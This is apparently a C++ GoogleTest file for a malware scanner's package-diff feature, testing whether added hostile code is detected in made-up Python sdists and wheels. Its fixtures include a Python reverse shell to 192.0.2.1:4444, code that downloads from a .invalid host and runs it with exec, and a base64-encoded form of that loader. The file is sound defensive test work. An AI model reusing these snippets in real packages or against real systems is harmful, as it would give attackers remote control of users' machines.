// What is new in a version, on packages made up here. Hosts end in .invalid.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "artifact/testing/archive_builder.h"
#include "diff/diff.h"
#include "diff/present.h"

namespace antivenom::diff {
namespace {

using nlohmann::json;
using Files = std::vector<std::pair<std::string, std::string>>;

Version sdist(const std::string& version, const Files& files) {
  testing::TarBuilder tar;
  tar.add("sample-" + version + "/PKG-INFO", "Metadata-Version: 2.1\nName: sample\nVersion: " + version + "\n");
  for (const auto& [path, text] : files) tar.add("sample-" + version + "/" + path, text);
  return examine(unpack(testing::gzipped(tar.finished()), "sample-" + version + ".tar.gz"), {});
}

Version wheel(const std::string& version, const Files& files) {
  testing::ZipBuilder zip;
  const std::string info = "sample-" + version + ".dist-info/";
  zip.add(info + "METADATA", "Metadata-Version: 2.1\nName: sample\nVersion: " + version + "\n");
  zip.add(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n");
  for (const auto& [path, text] : files) zip.add(path, text);
  return examine(unpack(zip.finished(), "sample-" + version + "-py3-none-any.whl"), {});
}

json difference_of(const Version& before, const Version& after) {
  const Difference difference = compare(before, after, {});
  return json::parse(to_json({before, after, difference}, {}));
}

std::string ids(const json& findings) {
  std::string out;
  for (const json& finding : findings) out += finding["id"].get<std::string>() + " ";
  return out;
}

const std::string kFetcher =
    "import urllib.request\n\n\ndef refresh():\n    code = "
    "urllib.request.urlopen('https://sample.invalid/update').read()\n"
    "    exec(code)\n\n\nrefresh()\n";
const std::string kShell =
    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
    "for d in (0, 1, 2):\n    os.dup2(s.fileno(), d)\nsubprocess.call(['/bin/sh', '-i'])\n";
const std::string kClient =
    "import json\nimport urllib.request\n\n\ndef get(url):\n    with urllib.request.urlopen(url) as answer:\n"
    "        return json.load(answer)\n\n\ndef post(url, data):\n    request = urllib.request.Request(url, data=data)\n"
    "    return urllib.request.urlopen(request)\n";

TEST(Compare, of_equal_versions_finds_nothing) {
  const Version one = sdist("1.0", {{"sample/__init__.py", kFetcher}});
  const json d = difference_of(one, one);
  EXPECT_EQ(d["verdict"], "clean");
  EXPECT_EQ(d["summary"], "Nothing hostile was added.");
  EXPECT_EQ(d["old"]["verdict"], "malicious");
  const json nothing = {{"behaviours", json::array()}, {"calls", json::array()},      {"evasions", json::array()},
                        {"files", json::array()},      {"indicators", json::array()}, {"layers", json::array()}};
  EXPECT_EQ(d["added"], nothing);
  EXPECT_EQ(d["removed"], nothing);
  EXPECT_EQ(d["changed_files"], json::array());
}

TEST(Compare, finds_one_bad_file_and_where_it_is_called) {
  Files files = {{"sample/__init__.py", "from .client import get\n"}, {"sample/client.py", kClient}};
  const Version before = sdist("1.0", files);
  files[0].second += "from . import _compat\n";
  files.emplace_back("sample/_compat.py", kShell);
  const json d = difference_of(before, sdist("1.1", files));
  EXPECT_EQ(d["verdict"], "malicious");
  EXPECT_EQ(ids(d["added"]["behaviours"]), "remote/reverse-shell ");
  EXPECT_EQ(d["added"]["files"],
            json::parse(R"([{"bytes":163,"lines":6,"path":"sample/_compat.py","role":"module"}])"));
  EXPECT_EQ(
      d["changed_files"][1],
      json::parse(
          R"({"added_lines":1,"change":"changed","hunks":[{"added":["from . import _compat"],"new_line":2,"old_line":2,)"
          R"("removed":[]}],"path":"sample/__init__.py","removed_lines":0})"));
  EXPECT_EQ(d["added"]["indicators"],
            json::parse(R"([{"file":"sample/_compat.py","layer":0,"line":6,"type":"command","value":"/bin/sh -i"}])"));
  EXPECT_EQ(d["added"]["calls"][0]["call"], "socket.socket.connect");
  EXPECT_EQ(d["added"]["calls"][0]["new_to_package"], true);
}

TEST(Compare, is_not_moved_by_moved_lines_renamed_files_and_version_numbers) {
  const auto text = [](const std::string& version) {
    return "import urllib.request\nexec(urllib.request.urlopen('https://sample.invalid/" + version +
           "/update').read())\n";
  };
  const Version before = sdist(
      "1.0.1", {{"sample/__init__.py", "from . import fetcher\n"}, {"sample/fetcher.py", text("1.0.1") + kClient}});
  const Version after = sdist("1.0.2", {{"sample/__init__.py", "from .inner import loader\n"},
                                        {"sample/inner/__init__.py", ""},
                                        {"sample/inner/loader.py", "'''Moved.'''\n\n" + text("1.0.2") + kClient}});
  const json d = difference_of(before, after);
  EXPECT_EQ(d["new"]["verdict"], "malicious");
  EXPECT_EQ(d["verdict"], "clean");
  EXPECT_EQ(ids(d["added"]["behaviours"]) + ids(d["added"]["evasions"]), "");
  EXPECT_EQ(d["changed_files"][2]["change"], "renamed and changed");
  EXPECT_EQ(d["changed_files"][2]["old_path"], "sample/fetcher.py");
}

TEST(Compare, hears_of_another_address_in_the_same_place) {
  std::string other = kFetcher;
  other.replace(other.find("sample.invalid/update"), 21, "elsewhere.invalid/x");
  const json d =
      difference_of(sdist("1.0", {{"sample/__init__.py", kFetcher}}), sdist("1.1", {{"sample/__init__.py", other}}));
  EXPECT_EQ(d["verdict"], "malicious");
  EXPECT_EQ(ids(d["added"]["behaviours"]), "exec/downloaded-code ");
  const auto fetched = [&](const char* side) { return d[side]["behaviours"][0]["evidence"][0]["code"]; };
  EXPECT_EQ(fetched("added"), "    code = urllib.request.urlopen('https://elsewhere.invalid/x').read()");
  EXPECT_EQ(fetched("removed"), "    code = urllib.request.urlopen('https://sample.invalid/update').read()");
}

TEST(Compare, hears_of_old_code_that_begins_to_run_by_itself) {
  const std::string dormant = kFetcher.substr(0, kFetcher.rfind("\n\n\nrefresh"));
  const json d = difference_of(sdist("1.0", {{"sample/tools.py", dormant + "\n"}, {"sample/__init__.py", ""}}),
                               sdist("1.1", {{"sample/tools.py", dormant + "\n"},
                                             {"sample/__init__.py", "from .tools import refresh\nrefresh()\n"}}));
  EXPECT_EQ(d["verdict"], "malicious");
  EXPECT_EQ(ids(d["added"]["behaviours"]), "exec/downloaded-code ");
}

TEST(Compare, of_sdist_and_wheel_expects_what_only_one_form_has) {
  const Files code = {{"sample/__init__.py", "VALUE = 1\n"}, {"sample/client.py", kClient}};
  Files project = {{"setup.py", "from setuptools import setup\nsetup(name='sample', version='1.0')\n"},
                   {"tests/test_sample.py", "def test_value():\n    assert True\n"}};
  for (const auto& [path, text] : code) project.emplace_back("src/" + path, text);
  const json d = difference_of(sdist("1.0", project), wheel("1.0", code));
  EXPECT_EQ(d["same_release"], true);
  EXPECT_EQ(d["verdict"], "clean");
  EXPECT_EQ(d["notes"], json::array());
  for (const json& file : d["removed"]["files"]) EXPECT_TRUE(file.contains("expected")) << file;
  for (const json& file : d["added"]["files"]) EXPECT_TRUE(file.contains("expected")) << file;
  for (const json& file : d["changed_files"]) EXPECT_EQ(file["change"], "renamed") << file;
}

TEST(Compare, tells_of_code_that_only_the_wheel_has) {
  const Files code = {{"sample/__init__.py", "VALUE = 1\n"}};
  const Files tampered = {{"sample/__init__.py", "VALUE = 1\nimport os\nos.remove('/tmp/sample')\n"},
                          {"sample/_version.py", "version = '1.0'\n"}};
  const Version source = sdist("1.0", code), built = wheel("1.0", tampered);
  const json d = difference_of(source, built);
  EXPECT_EQ(d["verdict"], "suspicious");
  EXPECT_EQ(d["notes"], json::parse(R"([
    {"file":"sample/__init__.py","suspicious":true,
     "text":"the wheel's code is not that of the sdist, and it makes calls that the sdist's does not"},
    {"file":"sample/_version.py","suspicious":false,
     "text":"only the wheel has this code, and it makes no call that the sdist's does not"}])"));
  EXPECT_EQ(difference_of(built, source)["verdict"], "suspicious");
  EXPECT_EQ(difference_of(sdist("0.9", code), built)["verdict"], "clean")
      << "not the same release: nothing hostile was added";
}

TEST(Compare, sees_how_an_author_works_on_a_package) {
  std::string padded = kFetcher;
  for (int i = 0; i < 20; ++i) padded += "value_" + std::to_string(i) + " = " + std::to_string(i) + "\n";
  const Version first = sdist("1.0", {{"sample/__init__.py", padded}});
  const std::string caught =
      "import urllib.request\ntry:\n    exec(urllib.request.urlopen('https://sample.invalid/update').read())\nexcept "
      "Exception:\n    pass\n";
  const json d = difference_of(first, sdist("1.1", {{"sample/__init__.py", caught}}));
  EXPECT_EQ(d["evolution"]["sturdier"], true);
  EXPECT_EQ(d["evolution"]["shorter"], true);
  EXPECT_EQ(d["evolution"]["exception_handlers"], json::parse("[0,1]"));
  const std::string encoded = "import base64\nexec(base64.b64decode('" +
                              std::string(
                                  "aW1wb3J0IHVybGxpYi5yZXF1ZXN0CmV4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9zYW1w"
                                  "bGUuaW52YWxpZC91cGRhdGUnKS5yZWFkKCkp") +
                              "'))\n";
  const json hidden = difference_of(first, sdist("1.2", {{"sample/__init__.py", encoded}}));
  EXPECT_EQ(hidden["evolution"]["evading"], true);
  EXPECT_EQ(hidden["added"]["layers"].size(), 1u);
}

TEST(Compare, judges_changed_files_alone_where_the_whole_is_too_much) {
  Files files = {{"sample/__init__.py", ""}};
  std::string busy = "total = 0\nfor i in range(100000):\n    total = total + i\n";
  for (int i = 0; i < 40; ++i) files.emplace_back("sample/a" + std::to_string(i) + ".py", busy);
  const auto pack = [](const std::string& version, const Files& all, const ScanOptions& options) {
    testing::TarBuilder tar;
    tar.add("sample-" + version + "/PKG-INFO", "Metadata-Version: 2.1\nName: sample\nVersion: " + version + "\n");
    for (const auto& [path, text] : all) tar.add("sample-" + version + "/" + path, text);
    return examine(unpack(testing::gzipped(tar.finished()), "sample-" + version + ".tar.gz"), options);
  };
  ScanOptions options;
  options.budget.max_steps = 3'000;
  const Version before = pack("1.0", files, options);
  files.emplace_back("sample/zz.py", kShell);
  const Version after = pack("1.1", files, options);
  ASSERT_FALSE(after.result.facts.effort.exhausted.empty());
  const Difference d = compare(before, after, options);
  EXPECT_EQ(d.label, Label::malicious);
  EXPECT_EQ(d.added.judged_alone, after.result.verdict.label != Label::malicious);
}

TEST(Compare, shows_hostile_names_and_lines_safely) {
  const Version before = sdist("1.0", {{"sample/__init__.py", "x = 1\n"}});
  const Version after = sdist("1.1", {{"sample/__init__.py", "x = '\x1b[2J\xe2\x80\xae'\n"}});
  const Difference d = compare(before, after, {});
  for (const unsigned width : {100u, 160u}) {
    ReportOptions options;
    options.width = width;
    const std::string text = to_text({before, after, d}, options);
    EXPECT_EQ(text.find('\x1b'), std::string::npos);
    EXPECT_EQ(text.find("\xe2\x80\xae"), std::string::npos);
    EXPECT_NE(text.find("1 - x = 1"), std::string::npos) << text;
    EXPECT_NE(text.find("1 + x = '\\x1b[2J"), std::string::npos) << text;
  }
}

TEST(Compare, keeps_going_on_what_is_no_archive) {
  const Version good = sdist("1.0", {{"sample/__init__.py", ""}});
  const Version bad = examine(unpack("not an archive", "sample-1.1.tar.gz"), {});
  EXPECT_EQ(compare(good, bad, {}).label, Label::unreadable);
  EXPECT_EQ(compare(bad, good, {}).label, Label::unreadable);
}

}  // namespace
}  // namespace antivenom::diff
